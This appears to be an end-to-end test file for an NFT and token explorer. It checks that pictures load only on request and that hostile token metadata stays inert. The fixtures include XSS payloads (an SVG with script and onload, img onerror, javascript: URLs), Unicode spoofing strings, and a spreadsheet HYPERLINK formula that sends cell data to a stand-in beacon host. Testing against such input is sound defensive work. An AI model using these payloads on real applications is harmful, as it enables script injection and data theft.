import { readFile } from 'node:fs/promises'
import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { open, openMenu, run, shoot, show, startPlayground } from './harness.js'

const { visit } = startPlayground()

const cid = 'QmTv9z5nYyr8zjDErt6auk598ySFFb6sb3B9sfku1vwvVU'

/** Answers for every other host and keeps what was asked for. */
async function others(page: Page): Promise<{ readonly url: string; readonly headers: Record<string, string> }[]> {
  const asked: { url: string; headers: Record<string, string> }[] = []
  await page.route(/^https:\/\//, async (route) => {
    asked.push({ url: route.request().url(), headers: await route.request().allHeaders() })
    await route.fulfill({ contentType: 'image/svg+xml', body: hostileSvg })
  })
  return asked
}

const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"
 onload="parent.document.title='taken over'"><script>parent.document.title='taken over'</script>
 <image xlink:href="https://beacon.example/seen.png" width="9" height="9"/>
 <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://beacon.example/frame"/></foreignObject>
 <rect width="40" height="40" fill="teal"/></svg>`

/** Changes the rows of the answer that is shown. */
async function answerWith(page: Page, change: (rows: Record<string, unknown>[]) => void): Promise<void> {
  await page.route('**/evm/**', async (route) => {
    const response = await route.fetch()
    if (route.request().method() === 'OPTIONS') return route.fulfill({ response })
    const body = await response.json()
    change(body.result)
    await route.fulfill({ response, json: body })
  })
}

describe('what NFTs and tokens look like', () => {
  test('NFTs are a gallery at first, with a rosette each; the table is one click away, and what is linked or chosen stays', () =>
    visit('#/evm/getWalletNFTs', async (page) => {
      await run(page)
      await page.locator('.gallery li').nth(2).waitFor()
      const lines = await page
        .locator('.gallery svg[aria-hidden=true]')
        .evaluateAll((all) => all.map((svg) => svg.querySelector('path')?.getAttribute('d')))
      expect(new Set(lines).size).toBe(3)
      await expect.poll(() => page.url()).toContain('~view=response')
      await show(page, 'Table')
      await page.locator('.table-body [role=row]').nth(2).waitFor()
      await expect.poll(() => page.url()).toContain('~view=decoded')
      await page.reload()
      await run(page)
      await page.locator('.table').waitFor()
      await open(page, '#/evm/getContractNFTs')
      await run(page)
      expect(await page.locator('.result-head .tab[data-state=active]').textContent()).toBe('Gallery')
    }))

  test('nothing is loaded until pictures are turned on, then through the gateway and without a referrer; spam never', () =>
    visit('#/evm/getWalletNFTs', async (page) => {
      const asked = await others(page)
      await answerWith(page, ([first, second, third]) => {
        Object.assign(first ?? {}, { media: null, normalized_metadata: null })
        Object.assign(second ?? {}, { media: null, metadata: `{"image":"https://media.example/2.png"}` })
        Object.assign(third ?? {}, { possible_spam: true })
      })
      await run(page)
      await show(page, 'Gallery')
      await page.locator('.gallery li').nth(2).waitFor()
      await page.locator('.picture-switch', { hasText: 'Off. Pictures load from' }).waitFor()
      expect(asked).toEqual([])
      await page.getByLabel('IPFS through').fill('my-gateway.example')
      await page.getByRole('button', { name: 'Show pictures' }).click()
      await page.locator('.gallery img').nth(1).scrollIntoViewIfNeeded() // they load when they come in sight
      await expect.poll(() => asked.length).toBe(2)
      expect(asked.map(({ url }) => url).sort()).toEqual([
        'https://media.example/2.png',
        `https://my-gateway.example/ipfs/${cid}`,
      ])
      for (const { headers } of asked) expect(headers).not.toHaveProperty('referer')
      await page.locator('.gallery li').nth(2).getByText('Spam is never loaded').waitFor()
      await shoot(page, 'gallery')
      await page.getByRole('button', { name: 'Hide pictures' }).click()
      expect(await page.locator('.gallery img').count()).toBe(0)
      await page.locator('.gallery button').first().click()
      await page.locator('.row-detail .record').first().waitFor()
    }))

  test('logos stand beside what they belong to, once they are asked for', () =>
    visit('#/evm/getWalletTokenTransfers', async (page) => {
      const asked = await others(page)
      await run(page)
      expect(asked).toEqual([])
      await openMenu(page)
      await page.getByRole('button', { name: 'Show pictures' }).click()
      await page.locator('.table .logo img').first().waitFor()
      const bearers = await page
        .locator('.table-body [role=row]')
        .first()
        .locator('[role=gridcell]:has(.logo)')
        .evaluateAll((cells) => cells.map((cell) => cell.getAttribute('data-type')))
      expect(new Set(bearers)).toEqual(new Set(['string', 'address']))
    }))
})

describe('what whoever makes a token may write', () => {
  const script = 'javascript:document.title="taken over"'
  const markup = '<img src=x onerror="document.title=\'taken over\'"><script>document.title="taken over"</script>'
  const hidden = 'USDC\u202ekcatta\u{e0041}\u{e0042}'
  const formula = '=HYPERLINK("https://beacon.example?"&A1,"claim")'
  const images = [
    script,
    `data:image/svg+xml,${encodeURIComponent(hostileSvg)}`,
    `data:text/html,${encodeURIComponent('<script>parent.document.title="taken over"</script>')}`,
    'https://media.example/hostile.svg',
    'http://media.example/plain.png',
    'https://ipfs.io@beacon.example/1.png',
  ]
  const names = [markup, hidden, formula, script, `${formula}\r\n${formula}`, markup]

  test('is inert in gallery, table, tree, tooltips and exports', () =>
    visit(
      '#/evm/getWalletNFTs',
      async (page) => {
        const asked = await others(page)
        await answerWith(page, (rows) => {
          const [pattern] = rows
          rows.splice(0, rows.length)
          for (const [index, image] of images.entries())
            rows.push({
              ...pattern,
              token_id: String(index),
              name: names[index],
              symbol: formula,
              metadata: JSON.stringify({ name: names[index], image }),
              token_uri: script,
              normalized_metadata: null,
              media: null,
              possible_spam: false,
            })
        })
        const title = await page.title()
        await run(page)
        const tips = await page
          .locator('.outcome [title]')
          .evaluateAll((all) => all.map((one) => one.getAttribute('title')))
        expect(tips.length).toBeGreaterThan(10)
        expect(tips.filter((tip) => /[\u202e\u{e0000}-\u{e007f}]/u.test(tip ?? ''))).toEqual([])
        await show(page, 'Gallery')
        await page.getByRole('button', { name: 'Show pictures' }).click()
        await page.locator('.gallery img').scrollIntoViewIfNeeded()
        await page.waitForTimeout(300)
        expect(asked.map(({ url }) => url)).toEqual(['https://media.example/hostile.svg'])
        expect(await page.locator('.gallery img').count()).toBe(1)
        expect(await page.locator('.outcome').innerText()).not.toMatch(/[\u202e\u{e0000}-\u{e007f}]/u)
        for (const view of ['Wire', 'Tree']) {
          await show(page, view)
          await page.locator('.tree-line, .diff td').nth(5).waitFor()
          expect(await page.locator('.outcome').innerText()).not.toMatch(/[\u202e\u{e0000}-\u{e007f}]/u)
        }
        await show(page, 'Gallery')
        for (const index of [0, 1]) {
          await page.locator('.gallery button').nth(index).click()
          await page.locator('.row-detail .sheet-line').nth(5).waitFor()
          expect(await page.locator('.row-detail').innerText()).not.toMatch(/[\u202e\u{e0000}-\u{e007f}]/u)
          await page.keyboard.press('Escape')
        }
        const links = await page
          .locator('.outcome a, .row-detail a')
          .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).protocol))
        expect(links.filter((protocol) => !/^https?:$/.test(protocol))).toEqual([])
        expect(await page.locator('.outcome :is(script, iframe, object, embed, foreignObject)').count()).toBe(0)
        const [download] = await Promise.all([
          page.waitForEvent('download'),
          openMenu(page).then(() => page.getByRole('button', { name: 'CSV', exact: true }).click()),
        ])
        const csv = await readFile(await download.path(), 'utf8')
        expect(csv).toContain('HYPERLINK')
        expect(csv).not.toMatch(/(^|[,;\t\r\n])"?\s*=/m)
        expect(await page.title()).toBe(title)
      },
      { acceptDownloads: true },
    ))
})
